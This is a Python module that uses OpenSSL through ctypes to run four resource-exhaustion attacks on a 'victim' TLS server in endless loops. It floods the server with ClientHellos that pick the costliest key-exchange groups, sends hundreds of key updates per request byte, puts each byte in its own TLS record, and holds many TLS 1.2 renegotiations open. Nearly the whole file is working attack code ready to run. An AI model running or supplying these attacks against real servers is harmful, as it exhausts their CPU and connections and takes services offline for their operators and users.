"""As attackers.py, with what TLS alone offers. Python's ssl has no key updates and no groups, so OpenSSL is called for them."""
import ctypes
import itertools
import socket
import ssl

from attackers import for_ever, hold
from target import UNVERIFIED

SET_MIN_VERSION, SET_MAX_VERSION, SET_GROUPS = 123, 124, 92  # ssl.h: SSL_CTRL_…
TLS1_2, TLS1_3 = 0x303, 0x304
KEY_UPDATE_REQUESTED = 1


def library():
    lib = ctypes.CDLL("libssl.so.3")
    for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new", "BIO_new", "BIO_s_mem"):
        getattr(lib, name).restype = ctypes.c_void_p
    return lib


class Session:
    """A client's side of TLS."""

    lib = library()

    def __init__(self, client, version, groups="X25519:P-256"):
        lib = self.lib
        self.client = client
        context = ctypes.c_void_p(lib.SSL_CTX_new(ctypes.c_void_p(lib.TLS_client_method())))
        lib.SSL_CTX_ctrl(context, SET_MIN_VERSION, ctypes.c_long(version), None)
        lib.SSL_CTX_ctrl(context, SET_MAX_VERSION, ctypes.c_long(version), None)
        lib.SSL_CTX_ctrl(context, SET_GROUPS, ctypes.c_long(0), groups.encode())
        self.ssl = ctypes.c_void_p(lib.SSL_new(context))
        lib.SSL_CTX_free(context)
        lib.SSL_set_fd(self.ssl, client.fileno())

    def shake_hands(self):
        self.client.setblocking(True)
        if self.lib.SSL_connect(self.ssl) != 1:
            self.close()
            raise ConnectionError

    def renew_keys(self, n, data):
        """As many times, in one piece with some data."""
        memory = ctypes.c_void_p(self.lib.BIO_new(ctypes.c_void_p(self.lib.BIO_s_mem())))
        self.lib.SSL_set0_wbio(self.ssl, memory)
        for _ in range(n):
            self.lib.SSL_key_update(self.ssl, KEY_UPDATE_REQUESTED)
            self.lib.SSL_do_handshake(self.ssl)
        self.lib.SSL_write(self.ssl, data, len(data))
        records = ctypes.create_string_buffer(64 * (n + 1))
        size = self.lib.BIO_read(memory, records, len(records))
        self.client.sendall(records.raw[:size])

    def close(self):
        self.lib.SSL_free(self.ssl)
        self.client.close()


def hello(version, groups):
    """The first message of a handshake, of which the key is that of the first of these groups."""
    ours, theirs = socket.socketpair()
    with theirs:
        ours.setblocking(False)
        session = Session(ours, version, groups)
        session.lib.SSL_connect(session.ssl)
        session.close()
        return theirs.recv(1 << 14)


def hello_flood(victim):
    """The first message of handshakes that cost the server the most, and no more."""
    held = []
    hellos = itertools.cycle([hello(version, groups) for groups in ("P-384", "P-521", "P-384", "ffdhe8192") for version in (TLS1_2, TLS1_3)])

    def step():
        client = victim.connect(tls=False)
        client.sendall(next(hellos))
        held.append(client)
        hold(held, 200)
    for_ever(step)


def key_updates(victim):
    """Hundreds of new keys for each byte of a request."""
    def step():
        session = Session(victim.connect(tls=False), TLS1_3)
        session.shake_hands()
        try:
            for byte in itertools.cycle(victim.request()):
                session.renew_keys(600, bytes([byte]))
        finally:
            session.close()
    for_ever(step)


def tiny_records(victim):
    """Requests of which each byte is a record of its own."""
    def records(session):
        for byte in victim.request():
            session.write(bytes([byte]))

    def step():
        client = victim.connect(tls=False)
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        session = UNVERIFIED.wrap_bio(incoming, outgoing)
        while True:
            try:
                session.do_handshake()
                break
            except ssl.SSLWantReadError:
                client.sendall(outgoing.read())
                incoming.write(client.recv(1 << 14))
        with client:
            while True:
                records(session)
                client.sendall(outgoing.read())
    for_ever(step)


def renegotiations(victim):
    """Another handshake within the first one, of TLS 1.2."""
    held = []

    def step():
        session = Session(victim.connect(tls=False), TLS1_2)
        session.shake_hands()
        session.client.settimeout(0)
        session.lib.SSL_renegotiate(session.ssl)
        session.lib.SSL_do_handshake(session.ssl)
        held.append(session)
        hold(held, 200)
    for_ever(step)
